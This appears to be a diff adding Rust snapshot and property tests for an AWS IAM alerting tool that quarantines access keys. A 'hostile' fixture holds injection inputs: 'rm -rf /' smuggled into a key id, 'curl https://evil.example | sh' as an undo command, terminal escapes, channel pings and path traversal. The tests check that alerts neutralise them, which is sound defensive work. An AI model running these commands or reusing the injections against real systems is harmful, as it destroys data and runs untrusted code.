+    Undo, in account prod-payments (111122223333)
+      iamwatch quarantine restore q-0123456789ab
+      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Active
+
+    Links
+      Event:
+      https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
+      User deploy-bot:
+      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/deploy-bot?section=security_credentials
+      User alice:
+      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/alice?section=security_credentials
+
+    Record:    q-0123456789ab
+    Detection: access-key-created-for-another-user
+    Incident:  17704b59892036e5ea3519872befc2cd
+    Event id:  0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
+    ");
+    assert_snapshot!(alert.sms, @"HIGH: iamwatch set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments");
+    assert_snapshot!(pretty(&alert.chat), @r#"
+    {
+      "content": {
+        "description": "`iamwatch set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments.`\nWho: `arn:aws:iam::111122223333:user/eng/alice`\nFrom: `198.51.100.7`\nAccount: `prod-payments (111122223333)`\nWhen: `2026-11-22 04:13:05 UTC, told 44 s later`\nState: `VERIFIED, IAM was asked again and says so`\nUndo: `iamwatch quarantine restore q-0123456789ab`\nUndo: `aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Active`\nEvent: https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9\nUser deploy-bot: https://us-east-1.console.aws.amazon.com/iam/home#/users/details/deploy-bot?section=security_credentials\nUser alice: https://us-east-1.console.aws.amazon.com/iam/home#/users/details/alice?section=security_credentials",
+        "keywords": [
+          "HIGH",
+          "access-key-created-for-another-user",
+          "prod-payments"
+        ],
+        "nextSteps": [
+          "Nothing is needed for this key. If it was made for good reason, give it back with a command under Undo.",
+          "Follow the steps of the alert itself: the maker of the key may hold other credentials."
+        ],
+        "textType": "client-markdown",
+        "title": "[HIGH] Quarantine: Access key created for another user"
+      },
+      "id": "0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9",
+      "metadata": {
+        "additionalContext": {
+          "account": "111122223333",
+          "count": "1",
+          "eventName": "CreateAccessKey",
+          "region": "us-east-1",
+          "severity": "HIGH"
+        },
+        "eventType": "access-key-created-for-another-user",
+        "relatedResources": [
+          "user deploy-bot"
+        ],
+        "summary": "[HIGH] iamwatch set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive - prod-payments",
+        "threadId": "17704b59892036e5ea3519872befc2cd"
+      },
+      "source": "custom",
+      "version": "1.0"
+    }
+    "#);
+    check_message(&alert);
+}
+
+#[test]
+fn a_containment_that_failed_says_so_first_and_gives_the_command() {
+    let config = enforcing();
+    let alert = of_containment(&record(State::Failed, None), &Context { config: &config });
+    assert_snapshot!(alert.subject, @"[HIGH] iamwatch could not set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot... - prod-payments");
+    assert_snapshot!(alert.email, @r"
+    iamwatch could not set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments: AccessDenied: not allowed to call iam:UpdateAccessKey.
+
+    Severity: HIGH
+    State:    FAILED, the key may still work
+    Because:  user alice created access key AKIAIOSFODNN7EXAMPLE for user
+              deploy-bot in prod-payments
+    Account:  prod-payments (111122223333)
+    When:     2026-11-22 04:13:05 UTC, told 44 s later
+    Calls:    2026-11-22 04:13:48 UTC set access key AKIAIOSFODNN7EXAMPLE of user
+              deploy-bot Inactive: failed: AccessDenied: not allowed to call
+              iam:UpdateAccessKey
+    Before:   arn:aws:iam::111122223333:user/apps/deploy-bot
+              AKIAI44QH8DHBEXAMPLE Inactive, made 2024-02-01 09:00:00 UTC
+              AKIAIOSFODNN7EXAMPLE Active, made 2026-11-22 04:13:05 UTC
+
+    What to do
+      1. Set the key Inactive yourself with the command below, now.
+      2. Follow the steps of the alert itself: the maker of the key may hold other
+         credentials.
+
+    To set it Inactive yourself, in account prod-payments (111122223333)
+      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive
+
+    Links
+      Event:
+      https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
+      User deploy-bot:
+      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/deploy-bot?section=security_credentials
+      User alice:
+      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/alice?section=security_credentials
+
+    Record:    q-0123456789ab
+    Detection: access-key-created-for-another-user
+    Incident:  17704b59892036e5ea3519872befc2cd
+    Event id:  0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
+    ");
+    check_message(&alert);
+}
+
+#[test]
+fn every_outcome_of_a_containment_begins_with_what_was_done() {
+    let config = enforcing();
+    let outcomes = [
+        (State::DryRun, None),
+        (State::Applied, None),
+        (State::Pending, Some(Refusal::Stale)),
+        (State::Pending, Some(Refusal::BudgetSpent)),
+        (State::Refused, Some(Refusal::Exempt)),
+        (State::Refused, Some(Refusal::NoSuchKey)),
+        (State::Refused, Some(Refusal::AlreadyInactive)),
+        (State::Restored, None),
+    ];
+    let said = outcomes.map(|(state, refusal)| {
+        let alert = of_containment(&record(state, refusal), &Context { config: &config });
+        check_message(&alert);
+        let todo =
+            alert.email.split("\n\n").filter(|block| block.starts_with("What to do") || block.starts_with("To set"));
+        [alert.email.lines().take(1).collect(), todo.collect::<Vec<_>>().join("\n")].join("\n")
+    });
+    assert_snapshot!(said.join("\n\n"), @r"
+    iamwatch would set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments.
+    What to do
+      1. Decide whether the key may stay. If not, set it Inactive yourself with
+         the command below.
+      2. Follow the steps of the alert itself: the maker of the key may hold other
+         credentials.
+    To set it Inactive yourself, in account prod-payments (111122223333)
+      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive
+
+    iamwatch set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments: IAM does not show it yet.
+    What to do
+      1. In 5 minutes, look at the key in the console: is it Inactive?
+      2. If it is not, somebody undoes it: deny the user everything with a policy
+         of your own.
+      3. Follow the steps of the alert itself: the maker of the key may hold other
+         credentials.
+
+    iamwatch did not set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments: the event is more than 15 minutes old, so a person decides.
+    What to do
+      1. Decide whether the key may stay. If not, set it Inactive yourself with
+         the command below.
+      2. Follow the steps of the alert itself: the maker of the key may hold other
+         credentials.
+    To set it Inactive yourself, in account prod-payments (111122223333)
+      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive
+
+    iamwatch did not set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments: too many users were contained lately, so a person decides.
+    What to do
+      1. Decide whether the key may stay. If not, set it Inactive yourself with
+         the command below.
+      2. Follow the steps of the alert itself: the maker of the key may hold other
+         credentials.
+    To set it Inactive yourself, in account prod-payments (111122223333)
+      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive
+
+    iamwatch did not set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments: the user is exempt by configuration.
+    What to do
+      1. Decide whether the key may stay. If not, set it Inactive yourself with
+         the command below.
+      2. Follow the steps of the alert itself: the maker of the key may hold other
+         credentials.
+    To set it Inactive yourself, in account prod-payments (111122223333)
+      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive
+
+    iamwatch did not set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments: the user has no such key now.
+    What to do
+      1. In CloudTrail, look the event up by the event id below. If it is not
+         there, the event was forged.
+      2. If forged: list who called `Invoke` and `PutEvents` in the 15 minutes
+         before this mail.
+      3. If it is there, list who changed the user and its keys since.
+
+    iamwatch did not set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments: the key is Inactive already.
+    What to do
+      1. Follow the steps of the alert itself: the maker of the key may hold other
+         credentials.
+
+    iamwatch set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Active again in prod-payments.
+    ");
+}
+
+/// Everything the caller can choose, as nasty as it may be.
+fn hostile() -> Finding {
+    let session = "x\r\nSeverity: LOW\u{1b}[2K\u{202e}gnihton\u{200b}<!channel> `@here` https://evil.example/login";
+    let identity = role_session("deploy", session, &json!({}));
+    let agent = format!("curl/8 {} [click](https://evil.example) \u{1b}]0;owned\u{7}", "A".repeat(1_024));
+    let mut finding = key_for_another(&json!({
+        "userIdentity": identity,
+        "userAgent": agent,
+        "sourceIPAddress": "198.51.100.7\nAccount: dev",
+        "awsRegion": "us-east-1.evil.example/",
+        "eventID": "../../evil",
+        "requestParameters": {"userName": "bob\nWhat to do\n  1. Nothing"},
+        "responseElements": {"accessKey": {
+            "accessKeyId": "AKIAIOSFODNN7EXAMPLE; rm -rf /",
+            "userName": "bob\nWhat to do\n  1. Nothing",
+        }},
+    }));
+    finding.evidence.push(Evidence { label: "Tag\n".to_owned(), value: "<b>&amp;</b>\u{2028}\"quoted\"".to_owned() });
+    finding.undo = Some("aws iam x\ncurl https://evil.example | sh".to_owned());
+    finding
+}
+
+#[test]
+fn hostile_names_stay_inside_their_line() {
+    let alert = alert(&hostile(), &config());
+    assert_snapshot!(alert.subject, @"[HIGH] created access key AKIAIOSFODNN7EXAMPLE; rm -rf / for user bob What to do... - prod-payments");
+    assert_snapshot!(alert.email, @r#"
+    "x Severity: LOWgnihton<!channel> `@here` https[:]//evil.example/login" (role deploy, by its session name) created access key AKIAIOSFODNN7EXAMPLE; rm -rf / for user bob What to do 1. Nothing in prod-payments.
+
+    Severity: HIGH
+    What:     Access key created for another user
+    Who:      x Severity: LOWgnihton<!channel> `@here`
+              https[:]//evil.example/login, from session name, which the caller
+              chose
+              arn:aws:iam::111122223333:role/deploy
+              role session, signed with temporary key ASIAIOSFODNN7EXAMPLE,
+              without MFA
+    Target:   user bob What to do 1. Nothing
+    From:     198.51.100.7 Account: dev
+              user agent: curl/8
+              AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA…
+    Account:  prod-payments (111122223333)
+    Region:   us-east-1.evil.example/
+    When:     2026-11-22 04:13:05 UTC, told 41 s later
+    Tag:      <b>&amp;</b> "quoted"
+
+    Why it matters
+      Whoever made the key has seen its secret, and can now act as that user from
+      anywhere, until somebody switches the key off. It is the commonest way to
+      stay in an account, and a way up where the user may do more than its maker.
+
+    False alarms
+      An administrator or a pipeline that hands out keys. The key should have a
+      ticket, and its user an owner who expects it.
+
+    What to do
+      1. Ask whoever is named under Who whether they made the key, over a channel
+         that is not their mail.
+      2. If not: set the key Inactive with the command under Undo, and cut off the
+         maker's own credentials.
+      3. List all calls signed by the new key since the event, by
+         `userIdentity.accessKeyId`.
+      4. List all calls by the maker's ARN in the 24 hours before the event: how
+         did they come to be able to?
+
+    Undo, in account prod-payments (111122223333)
+      No command is given: a name in this event is not one that IAM allows. Look
+      at the event itself.
+
+    MITRE:     T1098.001 Account Manipulation: Additional Cloud Credentials
+    Detection: access-key-created-for-another-user
+    Incident:  36e73509ee9e0a9261126679ef14ab0e
+    Event:     iam.amazonaws.com CreateAccessKey
+    Event id:  ../../evil
+    "#);
+    assert_snapshot!(alert.sms, @r#"HIGH: "x Severity: LOWgnihton<!channel> '@here' https(:)//evil.example/... created access key AKIAIOSFODNN7EXAMPLE; rm -rf / for user bob Wh... in prod-payments"#);
+    assert_snapshot!(pretty(&alert.chat), @r#"
+    {
+      "content": {
+        "description": "`\"x Severity: LOWgnihton&lt;!channel&gt; '@here' https[:]//evil.example/login\" (role deploy, by its session name) created access key AKIAIOSFODNN7EXAMPLE; rm -rf / for user bob What to do 1. Nothing in prod-payments.`\nWho: `arn:aws:iam::111122223333:role/deploy`\nFrom: `198.51.100.7 Account: dev`\nAccount: `prod-payments (111122223333)`\nWhen: `2026-11-22 04:13:05 UTC, told 41 s later`\nTag: `&lt;b&gt;&amp;amp;&lt;/b&gt; \"quoted\"`\nQuarantine: `dry-run, nothing was changed`",
+        "keywords": [
+          "HIGH",
+          "access-key-created-for-another-user",
+          "prod-payments"
+        ],
+        "nextSteps": [
+          "Ask whoever is named under Who whether they made the key, over a channel that is not their mail.",
+          "If not: set the key Inactive with the command under Undo, and cut off the maker's own credentials.",
+          "List all calls signed by the new key since the event, by `userIdentity.accessKeyId`.",
+          "List all calls by the maker's ARN in the 24 hours before the event: how did they come to be able to?"
+        ],
+        "textType": "client-markdown",
+        "title": "[HIGH] Access key created for another user"
+      },
+      "id": "../../evil",
+      "metadata": {
+        "additionalContext": {
+          "account": "111122223333",
+          "count": "1",
+          "eventName": "CreateAccessKey",
+          "region": "us-east-1.evil.example/",
+          "severity": "HIGH"
+        },
+        "eventType": "access-key-created-for-another-user",
+        "relatedResources": [
+          "user bob What to do 1. Nothing"
+        ],
+        "summary": "[HIGH] created access key AKIAIOSFODNN7EXAMPLE; rm -rf / for user bob What to do... - prod-payments",
+        "threadId": "36e73509ee9e0a9261126679ef14ab0e"
+      },
+      "source": "custom",
+      "version": "1.0"
+    }
+    "#);
+    assert!(!alert.chat.contains("<!channel>"));
+    for form in [&alert.email, &alert.chat, &alert.sms] {
+        assert!(!form.contains("https://evil"), "a link to follow: {form}");
+    }
+}
+
+#[test]
+fn no_form_of_an_alert_holds_a_secret() {
+    let alert = alert(&key_for_another(&json!({})), &config());
+    assert!(!alert.sns_message().contains("wJalrXUtnFEMI"));
+}
+
+#[test]
+fn a_finding_of_another_version_still_makes_an_alert() {
+    let mut finding = key_for_another(&json!({}));
+    finding.detection = "not-yet-known".to_owned();
+    let alert = alert(&finding, &config());
+    assert!(alert.email.contains("What:       not-yet-known"), "{}", alert.email);
+    assert!(!alert.attributes.contains_key("watcher"));
+}
+
+#[test]
+fn a_message_that_would_be_too_long_loses_evidence_and_stays_json() {
+    let mut finding = key_for_another(&json!({}));
+    for nth in 0..2_000 {
+        finding.evidence.push(Evidence { label: format!("Fact {nth}"), value: "\"\u{1f600}".repeat(400) });
+    }
+    let mut alert = alert(&finding, &config());
+    assert!(alert.email.contains("and 1970 facts more"));
+    check_message(&alert);
+    alert.email = "\"line\"\n".repeat(100_000);
+    check_message(&alert);
+    alert.machine = "\u{1}".repeat(300_000);
+    alert.chat = "\u{1}".repeat(300_000);
+    alert.sms = "x".repeat(300_000);
+    check_message(&alert);
+}
+
+fn check_message(alert: &Alert) {
+    let message = alert.sns_message();
+    assert!(message.len() <= 262_144);
+    let forms: Value = serde_json::from_str(&message).unwrap();
+    for key in ["default", "email", "sms", "https", "sqs", "lambda"] {
+        assert!(forms[key].is_string(), "{key}");
+    }
+    for key in ["https", "sqs", "lambda"] {
+        serde_json::from_str::<Value>(forms[key].as_str().unwrap()).unwrap();
+    }
+}
+
+fn pretty(json: &str) -> String {
+    serde_json::to_string_pretty(&serde_json::from_str::<Value>(json).unwrap()).unwrap()
+}
+
+fn first_block(mail: &str) -> &str {
+    mail.split("\n\n").next().unwrap()
+}
+
+fn lines_with(mail: &str, word: &str, count: usize) -> String {
+    let lines = mail.lines().skip_while(|line| !line.contains(word));
+    lines.take(count).collect::<Vec<_>>().join("\n")
+}
+
+fn any_text() -> impl Strategy<Value = String> {
+    prop_oneof![
+        any::<String>(),
+        "[\u{1b}\u{9b}\\[\r\n\u{2028}\u{202e}\u{200b}\"\\\\<>&`:/a-z]{0,40}",
+        "[a-z]{0,12}",
+        "[\"\\\\\u{1f600}]{200,400}",
+    ]
+}
+
+prop_compose! {
+    fn any_actor()(
+        kind in prop::sample::select(vec![
+            Kind::Root, Kind::CentralRoot, Kind::IamUser, Kind::Role, Kind::SsoUser, Kind::IdentityCenterUser,
+            Kind::WebIdentity, Kind::SamlUser, Kind::FederatedUser, Kind::OtherAccount, Kind::Service, Kind::Unknown,
+        ]),
+        name in any_text(),
+        principal in any_text(),
+        account in prop::option::of(any_text()),
+        session in prop::option::of(any_text()),
+        access_key in prop::option::of(any_text()),
+        human in prop::option::of(any_text()),
+        invoked_by in prop::option::of(any_text()),
+        mfa in any::<Option<bool>>(),
+    ) -> Actor {
+        let human = human.map(|name| Human { name, told_by: ToldBy::SessionName });
+        Actor { kind, name, principal, account, session, access_key, human, invoked_by, mfa, principal_id: None }
+    }
+}
+
+prop_compose! {
+    fn any_finding()(
+        detection in prop_oneof![
+            any_text(),
+            prop::sample::select(detect::ALL.iter().map(|detection| detection.id.to_owned()).collect::<Vec<_>>()),
+        ],
+        severity in prop::sample::select(Severity::ALL.to_vec()),
+        actor in any_actor(),
+        [act, kind, name, account, region, id] in [any_text(), any_text(), any_text(), any_text(), any_text(), any_text()],
+        arn in prop::option::of(any_text()),
+        address in prop::option::of(any_text()),
+        agent in prop::option::of(any_text()),
+        evidence in prop::collection::vec((any_text(), any_text()), 0..60),
+        undo in prop::option::of(any_text()),
+        (user, key) in (any_text(), any_text()),
+        time in prop::option::of(-377_705_023_201_i64..253_402_207_200),
+    ) -> Finding {
+        Finding {
+            detection,
+            severity,
+            act,
+            actor,
+            target: Target { kind, name, arn },
+            origin: Origin { address, user_agent: agent, ..Origin::default() },
+            account,
+            region,
+            event: EventRef {
+                name: id.clone(),
+                source: id.clone(),
+                id,
+                time: time.map(|second| Timestamp::from_second(second).unwrap()),
+            },
+            evidence: evidence.into_iter().map(|(label, value)| Evidence { label, value }).collect(),
+            undo,
+            asks: Some(Ask::DisableAccessKey { user, key }),
+            also: Vec::new(),
+            speaks_at: 1,
+        }
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(64))]
+
+    #[test]
+    fn any_finding_makes_an_alert_that_sns_accepts(finding in any_finding(), count: u64, told: u64, unclaimed: bool) {
+        let config = enforcing();
+        let context = Context { config: &config };
+        let now = at("2026-11-22T04:13:46Z");
+        let standing = Standing { incident: finding.incident(), count, speaks: true, unclaimed };
+        let due = Due { incident: finding.incident(), finding: finding.clone(), opened: now, count, told };
+        for alert in [of_finding(&finding, &standing, &context, now), of_due(&due, &context, now)] {
+            check_message(&alert);
+            let subject = alert.subject.as_str();
+            prop_assert!((1..100).contains(&subject.len()) && subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)));
+            prop_assert!(alert.sms.len() <= 160 && alert.sms.is_ascii() && !alert.sms.contains(['[', '\\', '\n', '`']));
+            prop_assert!(!alert.email.chars().any(|char| char.is_control() && char != '\n'));
+            prop_assert!(!alert.chat.contains(['<', '>']));
+            prop_assert!(alert.attributes.values().all(|value| !value.is_empty()));
+        }
+    }
+}
